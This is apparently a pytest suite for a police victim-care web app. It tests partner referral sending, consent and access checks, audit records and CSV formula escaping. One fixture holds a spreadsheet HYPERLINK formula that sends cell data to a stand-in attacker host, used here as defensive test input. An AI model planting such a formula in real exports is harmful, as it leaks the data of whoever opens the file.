"""Sending to a partner is an act, not a download.

Downloading the open referrals changes nothing; a person ticks the referrals that may go and
sends them, which marks exactly those sent and meets their Right 4 duty. Referrals waiting for
the victim's agreement, and closed ones, never go out. Every CSV cell is safe from formulas.
"""

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from bluelamp.audit.models import AuditEvent
from bluelamp.care import reports
from bluelamp.care.models import Duty, Referral
from bluelamp.forces.models import Force, Role, User
from bluelamp.lib.downloads import csv_cell, csv_text
from tests.conftest import make_user

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
PARTNER = "victim_support"


def crime(reference: str, victims: list[dict[str, Any]], **overrides: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "reference": reference,
        "offence": "burglary_residential",
        "recorded_at": "2026-08-28T10:00:00+01:00",
        "team": "burglary-north",
        "victims": victims,
    }
    body.update(overrides)
    return body


def push(api: Client, body: dict[str, Any]) -> None:
    r = api.post("/api/v1/crimes", body, content_type="application/json")
    assert r.status_code == 201, r.content


def referral(name: str) -> Referral:
    return Referral.objects.get(victim__name=name, service=PARTNER)


@pytest.fixture
def crimes(api: Client, force: Force) -> None:
    """Open referrals to Victim Support for Edna, Sam and a name written as a formula; one
    closed (Nora said no to sharing) and one waiting for agreement (domestic abuse)."""
    push(api, crime("CR-1", [
        {"name": "Edna Example", "age": 84, "phone": "07700 900111"},
        {"name": "Sam Example", "age": 35, "phone": "07700 900222"},
        {"name": EVIL, "age": 40, "email": "x@example.com"},
        {"name": "Nora Nosharing", "age": 50, "consent": {"share_with_partners": False}},
    ], modus_operandi=["distraction"]))  # fmt: skip
    push(api, crime("CR-2", [{"name": "Dina Waiting", "age": 30}], flags=["domestic_abuse"]))
    assert referral("Edna Example").status == Referral.Status.OPEN
    assert referral("Nora Nosharing").status == Referral.Status.CLOSED
    assert referral("Dina Waiting").status == Referral.Status.AWAITING_CONSENT


@pytest.fixture
def vera(force: Force) -> User:
    """Vera: the test force's victim-care officer, who sends partner files."""
    return make_user(force, "vera", Role.VICTIM_CARE)


def rows(response: Any) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def state(force: Force) -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]], list[Any]]:
    referrals = list(
        Referral.objects.order_by("pk").values_list("pk", "status", "sent_at", "sent_by")
    )
    duties = list(Duty.objects.order_by("pk").values_list("pk", "met_at"))
    start = dt.datetime(2026, 8, 1, tzinfo=dt.UTC)
    end = dt.datetime(2026, 10, 1, tzinfo=dt.UTC)
    now = dt.datetime(2026, 9, 15, tzinfo=dt.UTC)
    return referrals, duties, reports.compliance(Duty.objects.filter(force=force), start, end, now)


def test_downloading_twice_changes_nothing_and_lists_only_open_referrals(
    crimes: None, force: Force, vera: User, login: Any
) -> None:
    client = login(vera)
    before = state(force)
    first = client.get(f"/care/referrals/export.csv?service={PARTNER}")
    second = client.get(f"/care/referrals/export.csv?service={PARTNER}")
    assert first.status_code == second.status_code == 200
    assert state(force) == before
    assert first.content == second.content
    names = {row["name"] for row in rows(first)}
    assert names == {"Edna Example", "Sam Example", "'" + EVIL}
    assert not Referral.objects.filter(status=Referral.Status.SENT).exists()
    # Viewing personal data is still recorded: one export record per download.
    exports = AuditEvent.objects.filter(force=force, action="export", user=vera)
    assert (
        list(exports.values_list("summary", flat=True))
        == [f"3 referrals to {PARTNER} downloaded (not sent)"] * 2
    )


def test_review_page_lists_open_partner_referrals_with_why_and_none_ticked(
    crimes: None, vera: User, login: Any
) -> None:
    page = login(vera).get(f"/care/referrals/send/?service={PARTNER}")
    assert page.status_code == 200
    text = page.content.decode()
    for name in ("Edna Example", "Sam Example", EVIL):
        r = referral(name)
        assert f'name="referral" value="{r.pk}"' in text
        assert r.reason in text
    assert "The Code refers unless the victim objects" in text
    assert " checked>" not in text and "checked=" not in text
    for name in ("Nora Nosharing", "Dina Waiting"):
        assert f'value="{referral(name).pk}"' not in text


def test_sending_marks_exactly_the_chosen_referrals_and_meets_their_duties(
    crimes: None, force: Force, vera: User, login: Any
) -> None:
    edna, sam = referral("Edna Example"), referral("Sam Example")
    before = timezone.now()
    r = login(vera).post("/care/referrals/send/", {"service": PARTNER, "referral": [str(edna.pk)]})
    assert r.status_code == 200
    assert "attachment" in r["Content-Disposition"]
    (row,) = rows(r)
    assert row["referral"] == str(edna.pk) and row["name"] == "Edna Example"
    assert row["crime_reference"] == "CR-1" and row["basis"] == "unless_objected"
    edna.refresh_from_db()
    assert edna.status == Referral.Status.SENT and edna.sent_by == "vera"
    assert edna.sent_at is not None and edna.sent_at >= before
    assert Duty.objects.get(referral=edna).met_at == edna.sent_at
    # Nothing else changed.
    assert Referral.objects.filter(status=Referral.Status.SENT).count() == 1
    assert Duty.objects.get(referral=sam).met_at is None
    assert referral("Sam Example").status == Referral.Status.OPEN
    (audit,) = AuditEvent.objects.filter(force=force, action="export")
    assert audit.user == vera and audit.actor == "user:vera"
    assert audit.summary == f"1 referral sent to {PARTNER}: {edna.pk}"


def test_a_name_written_as_a_formula_goes_out_escaped(crimes: None, vera: User, login: Any) -> None:
    evil = referral(EVIL)
    r = login(vera).post("/care/referrals/send/", {"service": PARTNER, "referral": [evil.pk]})
    (row,) = rows(r)
    assert row["name"] == "'" + EVIL
    cells = [cell for line in csv.reader(io.StringIO(r.content.decode())) for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("who", ["Nora Nosharing", "Dina Waiting", "Edna Example"])
def test_closed_waiting_and_already_sent_referrals_are_refused_and_nothing_is_sent(
    crimes: None, force: Force, vera: User, login: Any, who: str
) -> None:
    client = login(vera)
    if who == "Edna Example":  # sent once already: a second send is refused
        first = client.post(
            "/care/referrals/send/", {"service": PARTNER, "referral": [referral(who).pk]}
        )
        assert first.status_code == 200
    bad, sam = referral(who), referral("Sam Example")
    before = state(force)
    audits = AuditEvent.objects.count()
    r = client.post("/care/referrals/send/", {"service": PARTNER, "referral": [sam.pk, bad.pk]})
    assert r.status_code == 400
    text = r.content.decode()
    assert "Nothing was sent" in text and f"Referral {bad.pk}: " in text
    assert f"Referral {sam.pk}:" not in text
    assert state(force) == before
    assert AuditEvent.objects.count() == audits
    expected = {
        "Nora Nosharing": "closed, not open",
        "Dina Waiting": "waiting for the victim&#x27;s agreement",
        "Edna Example": "already sent",
    }[who]
    assert expected in text


def test_ids_not_visible_or_of_another_force_or_service_are_named_and_nothing_is_sent(
    crimes: None, force: Force, vera: User, login: Any, other_api: Client, olga: User
) -> None:
    push(other_api, crime("OTHER-1", [{"name": "Olive Elsewhere", "age": 30}]))
    theirs = Referral.objects.get(victim__name="Olive Elsewhere", service=PARTNER)
    internal = Referral.objects.get(victim__name="Edna Example", service="older_person_liaison")
    sam = referral("Sam Example")
    before = state(force)
    r = login(vera).post(
        "/care/referrals/send/",
        {"service": PARTNER, "referral": [sam.pk, theirs.pk, internal.pk, 999999]},
    )
    assert r.status_code == 400
    text = r.content.decode()
    assert f"Referral {theirs.pk}: no such referral" in text
    assert "Referral 999999: no such referral" in text
    assert f"Referral {internal.pk}: it is to older_person_liaison" in text
    assert state(force) == before
    # Nor may the other force's administrator send ours.
    r = login(olga).post("/care/referrals/send/", {"service": PARTNER, "referral": [sam.pk]})
    assert r.status_code == 400 and f"Referral {sam.pk}: no such referral" in r.content.decode()
    assert referral("Sam Example").status == Referral.Status.OPEN


def test_nothing_ticked_is_refused(crimes: None, vera: User, login: Any) -> None:
    r = login(vera).post("/care/referrals/send/", {"service": PARTNER})
    assert r.status_code == 400
    assert "choose at least one referral" in r.content.decode()
    r = login(vera).post("/care/referrals/send/", {"service": PARTNER, "referral": ["x"]})
    assert r.status_code == 400


@pytest.mark.parametrize("role", [Role.SPECIALIST, Role.INVESTIGATOR, Role.SUPERVISOR])
def test_only_victim_care_and_administrators_send_or_download(
    crimes: None, force: Force, login: Any, role: Role
) -> None:
    client = login(make_user(force, "someone", role))
    sam = referral("Sam Example")
    assert client.get(f"/care/referrals/send/?service={PARTNER}").status_code == 403
    assert client.get(f"/care/referrals/export.csv?service={PARTNER}").status_code == 403
    r = client.post("/care/referrals/send/", {"service": PARTNER, "referral": [sam.pk]})
    assert r.status_code == 403
    assert referral("Sam Example").status == Referral.Status.OPEN


def test_queue_links_to_the_review_page_and_calls_the_download_a_download(
    crimes: None, vera: User, login: Any
) -> None:
    text = login(vera).get(f"/care/?service={PARTNER}").content.decode()
    assert f'href="/care/referrals/send/?service={PARTNER}"' in text
    assert "sends nothing, changes nothing" in text


def test_api_sends_the_chosen_referrals(crimes: None, api: Client, force: Force) -> None:
    edna, sam = referral("Edna Example"), referral(EVIL)
    r = api.post(
        "/api/v1/referrals/send",
        {"service": PARTNER, "referrals": [sam.pk, edna.pk], "sent_by": "PC1234"},
        content_type="application/json",
    )
    assert r.status_code == 200, r.content
    body = r.json()
    assert body["service"] == PARTNER and body["sent_by"] == "api:test:PC1234"
    assert {x["referral"] for x in body["referrals"]} == {edna.pk, sam.pk}
    assert {x["name"] for x in body["referrals"]} == {"Edna Example", EVIL}
    lines = list(csv.DictReader(io.StringIO(body["csv"])))
    assert {line["name"] for line in lines} == {"Edna Example", "'" + EVIL}
    for r_ in (edna, sam):
        r_.refresh_from_db()
        assert r_.status == Referral.Status.SENT and r_.sent_by == "api:test:PC1234"
        assert Duty.objects.get(referral=r_).met_at == r_.sent_at
    (audit,) = AuditEvent.objects.filter(force=force, action="export")
    assert audit.actor == "api:test:PC1234" and audit.summary.startswith("2 referrals sent to")
    listed = api.get(f"/api/v1/referrals?service={PARTNER}&status=sent").json()
    assert {x["id"] for x in listed} == {edna.pk, sam.pk}


def test_api_names_bad_ids_with_400_and_sends_nothing(
    crimes: None, api: Client, other_api: Client, force: Force
) -> None:
    sam, nora, dina = referral("Sam Example"), referral("Nora Nosharing"), referral("Dina Waiting")
    before = state(force)
    r = api.post(
        "/api/v1/referrals/send",
        {"service": PARTNER, "referrals": [sam.pk, nora.pk, dina.pk, 999999]},
        content_type="application/json",
    )
    assert r.status_code == 400
    errors = r.json()["errors"]
    assert [e["field"] for e in errors] == ["referrals[1]", "referrals[2]", "referrals[3]"]
    assert errors[0]["message"] == f"referral {nora.pk}: it is closed, not open"
    assert errors[1]["message"].startswith(f"referral {dina.pk}: waiting for")
    assert errors[2]["message"] == "referral 999999: no such referral"
    assert state(force) == before
    # Another force's token cannot send ours; an empty choice is refused.
    r = other_api.post("/api/v1/referrals/send", {"service": PARTNER, "referrals": [sam.pk]},
                       content_type="application/json")  # fmt: skip
    assert r.status_code == 400 and "no such referral" in r.json()["errors"][0]["message"]
    r = api.post("/api/v1/referrals/send", {"service": PARTNER, "referrals": []},
                 content_type="application/json")  # fmt: skip
    assert r.status_code == 400
    assert state(force) == before


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900111", "'+44 7700 900111"),
        ("-3", "'-3"),  # text a person typed that only looks like a number
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Edna", "Edna"),
        ("", ""),
        ("a=b", "a=b"),
        (-3, -3),  # the code's own numbers stay numbers
        (2.5, 2.5),
        (None, None),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_every_csv_download_is_escaped(force: Force, login: Any, vera: User) -> None:
    text = csv_text(["=h"], [["=x", -1, "-1"]])
    assert text.splitlines() == ["'=h", "'=x,-1,'-1"]
    # The compliance download goes through the same writer: its numbers stay numbers.
    r = login(vera).get("/care/compliance/?month=2026-08&format=csv")
    assert r.status_code == 200 and r.content.decode().startswith("month,section,code_right,right")
